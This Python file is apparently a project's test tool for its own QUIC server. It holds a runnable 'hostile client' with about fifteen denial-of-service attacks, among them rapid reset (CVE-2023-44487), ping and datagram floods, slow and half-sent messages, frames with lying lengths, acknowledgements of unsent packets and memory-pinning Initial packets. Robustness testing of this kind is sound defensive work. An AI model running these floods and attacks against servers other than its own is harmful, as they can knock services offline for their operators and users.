"""A client that does what no honest one does, to a server of your own.

python tests/hostile/hostile_client.py 127.0.0.1:5000 rapid_reset [--amount N]

It speaks QUIC by the library's engine and the frames of the wire format by hand. The tests use the
same attacks over a network in memory. Without an attack's name, the attacks are listed.
"""

from __future__ import annotations

import argparse
import asyncio
import inspect
import os
import random
import socket
import sys
import time
from collections.abc import Awaitable, Callable
from typing import Any

from aioquic import tls
from aioquic.buffer import encode_uint_var as varint
from aioquic.quic.crypto import CryptoPair

from echostream.protocol import frames
from echostream.protocol.frames import encode_frame
from echostream.protocol.hello import Hello
from echostream.transport import engine as en
from echostream.transport.connection import Connection
from echostream.transport.dial import dial
from echostream.transport.endpoint import parse_address
from echostream.transport.quic import QuicOptions, client_engine

__all__ = ["ATTACKS", "FLOODS", "RawPeer", "initial", "mutated", "one_rtt"]


class RawPeer:
    """A connection without a session: bytes to streams, and what comes back is counted."""

    def __init__(self, connection: Connection, *, reads: bool = True) -> None:
        self.connection = connection
        self.engine: Any = connection.engine
        self.reads = reads
        self.closed: en.Closed | None = None
        self.stopped: dict[int, int] = {}
        self.received: dict[int, bytearray] = {}
        self.received_bytes = 0
        self._turned = asyncio.Event()
        connection.attach(self)

    def engine_event(self, event: en.EngineEvent) -> None:
        if isinstance(event, en.StreamData):
            self.received_bytes += len(event.data)
            if self.reads:
                kept = self.received.setdefault(event.stream_id, bytearray())
                if len(kept) < 65_536:
                    kept += event.data
                self.engine.consume(event.stream_id, len(event.data))
        elif isinstance(event, en.StopSending):
            self.stopped[event.stream_id] = event.code
            self.engine.reset_stream(event.stream_id, event.code)
        elif isinstance(event, en.Closed):
            self.closed = event
            self._turned.set()

    idle = True

    def before_flush(self, now: float) -> None:
        self._turned.set()

    @classmethod
    async def dial(cls, host: str, port: int, **options: Any) -> RawPeer:
        """Over a real socket. Nothing is verified."""
        return cls(await dial(host, port, raw_engine), **options)

    def open(self, data: bytes = b"", fin: bool = False) -> int:
        """A new unidirectional stream with these first bytes."""
        stream_id: int = self.engine.open_stream(False)
        self.write(stream_id, data, fin)
        return stream_id

    def write(self, stream_id: int, data: bytes, fin: bool = False) -> None:
        if self.closed is None and stream_id not in self.stopped:
            self.engine.send_stream(stream_id, data, fin)
            self.connection.wake()

    def hello(self, hello: Hello | None = None) -> int:
        """Open the control stream as an honest client does."""
        return self.open(encode_frame(frames.HELLO, 1, (hello or Hello()).encode()))

    async def room(self, stream_id: int, high: int = 256 * 1024) -> None:
        """Wait until the network has taken most of what was written."""
        while self.closed is None and self.engine.buffered(stream_id) > high:
            self._turned.clear()
            await self._turned.wait()

    def packet(self, payload: bytes) -> None:
        """Send one 1-RTT packet with frames of QUIC that the engine would not write."""
        address = self.connection.peer_address
        self.connection._send([(one_rtt(self.engine, payload), address)])

    def frames(self) -> list[tuple[int, int, int]]:
        """(type, id, number) of what the other side sent, as far as it was kept."""
        found = []
        for data in self.received.values():
            parser = frames.FrameParser(1 << 24)
            parser.feed(bytes(data))
            while parser.next():
                found.append((parser.type, parser.id, parser.number))
        return found


def raw_engine() -> Any:
    return client_engine(QuicOptions(), server_name="localhost", verify=False)


# --- packets that no engine makes ---


def one_rtt(engine: Any, payload: bytes) -> bytes:
    """A 1-RTT packet with these frames, under the connection's own keys."""
    connection = engine._connection
    keys = connection._cryptos[tls.Epoch.ONE_RTT]
    number = connection._packet_number
    connection._packet_number += 1
    connection._loss.largest_sent = number  # or it would take the acknowledgement for an attack
    header = bytes([0x41 | keys.key_phase << 2]) + connection._peer_cid.cid
    header += (number & 0xFFFF).to_bytes(2, "big")
    return bytes(keys.encrypt_packet(header, payload.ljust(4, b"\0"), number))


def initial(payload: bytes = b"\x01", cid: bytes | None = None, number: int = 0) -> bytes:
    """A client's first packet, padded to 1200 bytes, with keys that anybody can make."""
    cid = cid or os.urandom(8)
    keys = CryptoPair()
    keys.setup_initial(cid=cid, is_client=True, version=1)
    source = os.urandom(8)
    head = b"\xc1" + (1).to_bytes(4, "big") + bytes([len(cid)]) + cid
    head += bytes([len(source)]) + source + b"\x00"
    room = 1200 - len(head) - 2 - 2 - 16
    head += (room + 18 | 0x4000).to_bytes(2, "big") + number.to_bytes(2, "big")
    return bytes(keys.encrypt_packet(head, payload.ljust(room, b"\0"), number))


def pinned_initial() -> bytes:
    """An Initial with a byte of CRYPTO far out: stock aioquic holds 512 KiB for each."""
    return initial(b"\x06" + varint(60_000) + varint(1) + b"x")


def mutated(rng: random.Random, data: bytes) -> bytes:
    """The same with some bytes or bits changed, cut off, or put in."""
    wire = bytearray(data)
    for _ in range(rng.choice((1, 1, 2, 4, 16))):
        at = rng.randrange(len(wire) + 1)
        match rng.randrange(4):
            case 0 if at < len(wire):
                wire[at] ^= 1 << rng.randrange(8)
            case 1 if at < len(wire):
                wire[at] = rng.randrange(256)
            case 2:
                del wire[at:]
            case _:
                wire[at:at] = rng.randbytes(rng.randrange(1, 9))
    return bytes(wire)


# --- attacks on one connection ---


async def rapid_reset(peer: RawPeer, amount: int = 100_000) -> None:
    """Open a stream with a request and reset it at once, again and again (CVE-2023-44487)."""
    peer.hello()
    for number in range(amount):
        if peer.closed is not None:
            return
        stream_id = peer.open(encode_frame(frames.REQUEST, 2 * number, b"\xc0", frames.END, "slow"))
        await asyncio.sleep(0.0005)
        peer.engine.reset_stream(stream_id, 0)
        peer.connection.wake()


async def ping_flood(peer: RawPeer, amount: int = 100_000) -> None:
    """Packets that have to be acknowledged and carry nothing."""
    peer.hello()
    for _ in range(amount):
        if peer.closed is not None:
            return
        peer.packet(b"\x01")
        await asyncio.sleep(0.0002)


async def slow_messages(peer: RawPeer, amount: int = 120) -> None:
    """Begin a request on each stream, and send on at one byte per second."""
    peer.hello()
    begin = encode_frame(frames.REQUEST, 0, bytes(3000), frames.END, "echo")
    streams = [peer.open(begin[:40]) for _ in range(amount)]
    for at in range(40, len(begin)):
        await asyncio.sleep(1)
        if peer.closed is not None or len(peer.stopped) == len(streams):
            return
        for stream_id in streams:
            peer.write(stream_id, begin[at : at + 1])


async def half_messages(peer: RawPeer, amount: int = 120) -> None:
    """Send all but the last byte of many large requests."""
    peer.hello()
    message = encode_frame(frames.REQUEST, 0, bytes(4 << 20), frames.END, "echo")[:-1]
    for _ in range(amount):
        stream_id = peer.open()
        for at in range(0, len(message), 65_536):
            if peer.closed is not None or stream_id in peer.stopped:
                break
            peer.write(stream_id, message[at : at + 65_536])
            await peer.room(stream_id)
        if peer.closed is not None:
            return


async def no_hello(peer: RawPeer, amount: int = 300) -> None:
    """Every kind of frame, never HELLO."""
    peer.open()  # would be the control stream, where the others are refused
    for kind in (
        frames.REQUEST,
        frames.RESPONSE,
        frames.ERROR,
        frames.CANCEL,
        frames.EVENT,
        frames.STREAM_OPEN,
        frames.STREAM_FLUSH,
    ):
        stream_id = peer.open()
        for number in range(1, amount):
            peer.write(
                stream_id, encode_frame(kind, 2 * number, b"\xc0", frames.END, "echo", None, -1, 1)
            )
    await peer.connection.wait_closed()


async def tiny_frames(peer: RawPeer, amount: int = 1_000_000) -> None:
    """Events that nobody listens to, as small as they can be."""
    peer.hello()
    stream_id = peer.open()
    for number in range(1, amount, 1000):
        if peer.closed is not None:
            return
        batch = (encode_frame(frames.EVENT, n, b"", 0, "x") for n in range(number, number + 1000))
        peer.write(stream_id, b"".join(batch))
        await peer.room(stream_id)


async def cancel_storm(peer: RawPeer, amount: int = 1_000_000) -> None:
    """Cancel calls that do not exist."""
    peer.hello()
    stream_id = peer.open()
    batch = encode_frame(frames.CANCEL, 4, b"", 0, None, None, -1, 16) * 1000
    for _ in range(0, amount, 1000):
        if peer.closed is not None:
            return
        peer.write(stream_id, batch)
        await peer.room(stream_id)


async def pour(
    peer: RawPeer, numbers: range, frame: Callable[[int], bytes], at_once: int = 100
) -> None:
    """A frame for each number on one stream, as fast as the network takes them."""
    stream_id = peer.open()
    for start in range(0, len(numbers), at_once):
        if peer.closed is not None:
            return
        peer.write(stream_id, b"".join(map(frame, numbers[start : start + at_once])))
        await peer.room(stream_id)


async def stream_storm(peer: RawPeer, amount: int = 100_000) -> None:
    """Open media streams without end."""
    options = b"\x81\xa6format\xc0"

    def open_stream(alias: int) -> bytes:
        return encode_frame(frames.STREAM_OPEN, alias, options, frames.MARK, "audio")

    peer.hello()
    await pour(peer, range(0, 2 * amount, 2), open_stream)


async def unread_answers(peer: RawPeer, amount: int = 1_000_000) -> None:
    """Ask, and never read what is answered."""
    payload = b"\xc4\x80" + bytes(128)

    def ask(number: int) -> bytes:
        return encode_frame(frames.REQUEST, number, payload, frames.END, "echo.bytes")

    peer.reads = False
    peer.hello()
    await pour(peer, range(0, 2 * amount, 2), ask)


async def unknown_methods(peer: RawPeer, amount: int = 100_000) -> None:
    """Call long names that do not exist, and never read the refusals."""

    def ask(number: int) -> bytes:
        name = f"{number}".ljust(255, "x")
        return encode_frame(frames.REQUEST, number, b"\xc0", frames.END, name)

    peer.reads = False
    peer.hello()
    await pour(peer, range(0, 2 * amount, 2), ask)


async def event_gaps(peer: RawPeer, amount: int = 60_000) -> None:
    """Events under many names, each of which waits for one that never comes."""

    def event(number: int) -> bytes:
        return encode_frame(frames.EVENT, number, b"", 0, f"{number}", None, -1, 1)

    peer.hello()
    await pour(peer, range(2, amount), event, at_once=1000)


async def lying_length(peer: RawPeer, amount: int = 64) -> None:
    """Announce messages of a terabyte, and send on."""
    peer.hello()
    head = bytes([frames.REQUEST, frames.END]) + varint(0) + varint(1 << 40)
    for number in range(amount):
        stream_id = peer.open(head[:2] + varint(2 * number) + varint(1 << 40))
        for _ in range(16):
            peer.write(stream_id, bytes(65_536))
            await peer.room(stream_id)


async def sparse_stream(peer: RawPeer, amount: int = 300) -> None:
    """One byte at ever larger offsets of a stream, with holes between (RFC 9000, section 21.6)."""
    peer.hello()
    await asyncio.sleep(0.1)
    for number in range(amount):
        if peer.closed is not None:
            return
        peer.packet(b"\x0e" + varint(14) + varint(8 + 4000 * number) + varint(1) + b"x")
        await asyncio.sleep(0.001)


async def unsent_ack(peer: RawPeer, amount: int = 1) -> None:
    """Acknowledge packets that were never sent (CVE-2025-4821)."""
    peer.hello()
    await asyncio.sleep(0.1)
    peer.packet(b"\x02" + varint(1_000_000) + varint(0) + varint(0) + varint(0))


async def noise_frames(peer: RawPeer, amount: int = 100_000, seed: int = 1) -> int:
    """Valid frames with some bytes changed, on new connections when one is closed for it."""
    rng = random.Random(seed + amount)
    peer.hello()
    while amount > 0 and peer.closed is None:
        stream_id = peer.open()
        for _ in range(100):
            whole = encode_frame(
                rng.choice((0x10, 0x11, 0x12, 0x13, 0x20, 0x30, 0x33)),
                2 * rng.randrange(1000),
                rng.randbytes(rng.randrange(40)),
                frames.END,
                "echo",
                None,
                -1,
                rng.randrange(100) if rng.random() < 0.001 else -1,
            )
            peer.write(stream_id, mutated(rng, whole) if rng.random() < 0.003 else whole)
            amount -= 1
        await peer.room(stream_id)
        await asyncio.sleep(0.001)
    return amount


ATTACKS: dict[str, Callable[..., Awaitable[int | None]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        ping_flood,
        slow_messages,
        half_messages,
        no_hello,
        tiny_frames,
        cancel_storm,
        stream_storm,
        unread_answers,
        unknown_methods,
        event_gaps,
        lying_length,
        sparse_stream,
        unsent_ack,
        noise_frames,
    )
}

# --- floods of datagrams, without a connection ---


def random_datagrams(rng: random.Random) -> bytes:
    """Bytes of no meaning, of every size."""
    return rng.randbytes(rng.choice((1, 8, 20, 60, 600, 1200, 1400)))


def mutated_initials(rng: random.Random) -> bytes:
    """First packets, damaged."""
    return mutated(rng, initial(rng.randbytes(20)))


def spoofed_initials(rng: random.Random) -> bytes:
    """First packets of handshakes that never go on, each from another port where possible."""
    return pinned_initial()


FLOODS: dict[str, Callable[[random.Random], bytes]] = {
    flood.__name__: flood for flood in (random_datagrams, mutated_initials, spoofed_initials)
}


def send_flood(host: str, port: int, name: str, amount: int, seed: int, rate: int = 0) -> None:
    """Send ``amount`` datagrams from 64 sockets, ``rate`` per second (0: as fast as it goes)."""
    rng = random.Random(seed)
    target = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)[0]
    sockets = [socket.socket(target[0], socket.SOCK_DGRAM) for _ in range(64)]
    # Made beforehand: making one costs more than the server needs to refuse it.
    stock = [FLOODS[name](rng) for _ in range(min(amount, 20_000))]
    start = time.monotonic()
    for number in range(amount):
        if rate and not number % 64:
            time.sleep(max(0.0, start + number / rate - time.monotonic()))
        data = stock[number % len(stock)]
        if number >= len(stock) and data:
            at = rng.randrange(len(data))
            data = data[:at] + rng.randbytes(1) + data[at + 1 :]
        try:
            sockets[number % 64].sendto(data, target[4])
        except OSError:  # a refusal by ICMP, or a full buffer
            pass
    print(f"{name}: {amount / (time.monotonic() - start):.0f} datagrams/s")
    for sock in sockets:
        sock.close()


async def _attack(host: str, port: int, name: str, amount: int | None) -> None:
    """Until ``amount`` is used up, on as many connections as that takes."""
    connections = 0
    while amount is None or amount > 0:
        peer = await RawPeer.dial(host, port)
        connections += 1
        try:
            async with asyncio.timeout(120):
                left = await ATTACKS[name](peer, **({} if amount is None else {"amount": amount}))
                amount = left or 0
                if not amount:
                    await asyncio.sleep(1)
        except TimeoutError:
            print("given up after 120 s")
            amount = 0
        peer.connection.close()
        await asyncio.sleep(0)
    print(
        f"{name}: {connections} connections, the last: closed={peer.closed}, "
        f"streams stopped={len(peer.stopped)}"
    )
    await asyncio.sleep(0.1)


def main() -> int:
    lines = [f"  {n:17} {inspect.getdoc(f)}" for n, f in {**ATTACKS, **FLOODS}.items()]
    parser = argparse.ArgumentParser(
        description=__doc__,
        epilog="attacks:\n" + "\n".join(lines),
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("address")
    parser.add_argument("attack", choices=[*ATTACKS, *FLOODS])
    parser.add_argument("--amount", type=int)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--rate", type=int, default=0, help="datagrams per second of a flood")
    options = parser.parse_args()
    host, port = parse_address(options.address)
    if options.attack in FLOODS:
        amount = options.amount or 100_000
        send_flood(host, port, options.attack, amount, options.seed, options.rate)
    else:
        asyncio.run(_attack(host, port, options.attack, options.amount))
    return 0


if __name__ == "__main__":
    sys.exit(main())
